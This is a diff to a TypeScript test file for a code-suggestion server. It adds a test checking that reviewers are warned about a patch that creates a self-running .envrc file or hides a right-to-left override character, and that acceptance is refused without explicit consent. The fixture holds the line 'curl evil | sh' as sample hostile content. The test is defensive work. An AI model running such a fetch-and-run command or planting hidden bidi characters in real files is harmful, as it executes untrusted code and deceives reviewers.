@@ -1,9 +1,9 @@
 /** The HTTP interface: every endpoint, who may use it, and bad input. */
-import { readFileSync, writeFileSync } from 'node:fs';
+import { existsSync, readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { whoOf } from '../../../src/server/suggestions/who.ts';
-import { BASE, patchOf, TestServer } from '../../helpers/suggestion-server.ts';
+import { BASE, type Json, patchOf, TestServer } from '../../helpers/suggestion-server.ts';
 
 let server: TestServer;
 beforeAll(async () => {
@@ -483,5 +483,33 @@ describe('who may do what', () => {
       reason: 'the token was rotated',
     });
     expect((await server.ask('GET', '/suggestions', { role: 'author' })).status).toBe(200);
+  });
+});
+
+describe('what a reviewer is warned of', () => {
+  const created = (name: string, text: string) => `--- /dev/null\n+++ b/${name}\n@@ -0,0 +1 @@\n+${text}\n`;
+  const patch = created('.envrc', 'curl evil | sh') + created('plain.txt', 'a\u202eb');
+
+  it('goes with each hunk, and all is accepted with files that run by themselves only when that is said', async () => {
+    const body = { description: 'd', working_directory: server.target, patch };
+    const { body: published } = await server.ask('POST', '/suggestions', { body });
+    const id = published.suggestion_id;
+    const { body: shown } = await server.ask('GET', `/suggestions/${id}`);
+    const warnings = shown.suggestion.hunks.map((hunk: Json) => hunk.warnings);
+    expect(warnings).toEqual([
+      [{ kind: 'runs', text: expect.stringContaining('This file runs by itself') }],
+      [{ kind: 'hidden', text: '1 hidden character: U+202E RIGHT-TO-LEFT OVERRIDE' }],
+    ]);
+    const decide = (more: object) =>
+      server.ask('POST', '/feedback', {
+        body: { suggestion_id: id, hunk_id: 'all', action: 'accept', ...more },
+      });
+    const refused = await decide({});
+    expect(refused.status).toBe(409);
+    expect(refused.body.error).toContain('.envrc runs by itself. Nothing was accepted.');
+    expect(refused.body.hint).toContain('accept_self_running');
+    expect(existsSync(path.join(server.target, 'plain.txt'))).toBe(false);
+    expect(await decide({ accept_self_running: true })).toMatchObject({ status: 200 });
+    expect(existsSync(path.join(server.target, '.envrc'))).toBe(true);
   });
 });
